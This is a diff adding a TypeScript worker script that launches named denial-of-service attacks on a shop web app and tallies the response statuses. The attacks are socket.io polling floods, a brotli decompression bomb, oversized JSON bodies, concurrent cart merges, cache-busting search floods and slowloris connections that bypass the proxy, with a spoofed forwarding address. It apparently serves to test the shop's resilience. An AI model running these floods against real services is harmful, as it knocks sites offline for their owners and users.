@@ -1,0 +1,92 @@
+import { once } from 'node:events'
+import { connect } from 'node:net'
+import { setTimeout as pause } from 'node:timers/promises'
+import { parentPort, workerData } from 'node:worker_threads'
+import { brotliCompressSync } from 'node:zlib'
+
+export type AttackName = keyof typeof attacks
+export type Attack = { name: AttackName; address: string; cookie: string; productIds: string[] }
+/** How often each status came. */
+export type Statuses = Record<string, number>
+
+const { name, address, cookie, productIds } = workerData as Attack
+const statuses: Statuses = {}
+let goesOn = true
+
+const count = (status: number | string) => {
+  statuses[status] = (statuses[status] ?? 0) + 1
+}
+
+/** All attackers come from one address, as the proxy in front of the shop tells it. */
+async function send(path: string, init: RequestInit & { headers?: Record<string, string> } = {}): Promise<string> {
+  const headers = { 'x-forwarded-for': '203.0.113.66', ...init.headers }
+  const response = await fetch(address + path, { ...init, headers })
+  count(response.status)
+  return response.text()
+}
+
+const json = { 'content-type': 'application/json' }
+const post = (path: string, body: BodyInit, headers: Record<string, string> = {}) =>
+  send(path, { method: 'POST', body, headers: { ...json, ...headers } })
+
+/** So many clients, each attacking again as soon as it is answered. */
+const crowd = (clients: number, attack: (turn: number) => Promise<unknown>) =>
+  Promise.all(
+    Array.from({ length: clients }, async (_, client) => {
+      for (let turn = client; goesOn; turn += clients) await attack(turn).catch(() => count('cut'))
+    }),
+  )
+
+async function askForAlerts() {
+  const polling = '/socket.io/?EIO=4&transport=polling'
+  const answer = await send(polling)
+  if (!answer.startsWith('0')) return
+  const { sid } = JSON.parse(answer.slice(1)) as { sid: string }
+  await send(`${polling}&sid=${sid}`, { method: 'POST', body: Array(1_300).fill('40').join('\x1e').slice(0, 3_900) })
+}
+
+/** Some bytes that become 340,000 empty lines, and as much plain JSON as is taken. */
+const emptyLines = brotliCompressSync('\n'.repeat(340_000))
+const longList = JSON.stringify({ cartItems: Array(100_000).fill(0) })
+
+async function sendEndlessJson(turn: number) {
+  if (turn % 2 === 0) await post('/api/auth/login', emptyLines, { 'content-encoding': 'br' })
+  else await post('/api/shop/order/create', longList)
+}
+
+const items = productIds.map((productId) => ({ productId, quantity: 1 }))
+const mergeAgain = () => post('/api/shop/cart/merge', JSON.stringify({ items }), { cookie })
+
+const searchAnew = (turn: number) =>
+  send(turn % 2 === 0 ? `/shop/search?keyword=trucker${turn}` : `/api/shop/search/trucker${turn}`)
+
+/** Not through the proxy: its connections are not counted. */
+async function sendSlowly() {
+  const { hostname, port } = new URL(address)
+  const socket = connect({ host: hostname, port: Number(port), localAddress: '127.0.0.66' }).on('error', () => {})
+  const closed = once(socket.resume(), 'close')
+  socket.write('GET /shop/home HTTP/1.1\r\nHost: a\r\nX-Slow: ')
+  const slowly = setInterval(() => socket.write('a'), 500)
+  await Promise.race([closed, stopped])
+  clearInterval(slowly)
+  socket.destroy()
+  count(goesOn ? 'cut' : 'open')
+  await pause(100)
+}
+
+const attacks = {
+  'live alerts without a sign-in': () => crowd(50, askForAlerts),
+  'compressed and endless JSON': () => crowd(10, sendEndlessJson),
+  'sixty merges of one account': () => crowd(60, mergeAgain),
+  'a hundred ever new searches': () => crowd(100, searchAnew),
+  'three hundred slow connections': () => crowd(300, sendSlowly),
+}
+
+const stopped = new Promise<void>((resolve) => {
+  parentPort?.once('message', () => {
+    goesOn = false
+    resolve()
+  })
+})
+await attacks[name]()
+parentPort?.postMessage(statuses)
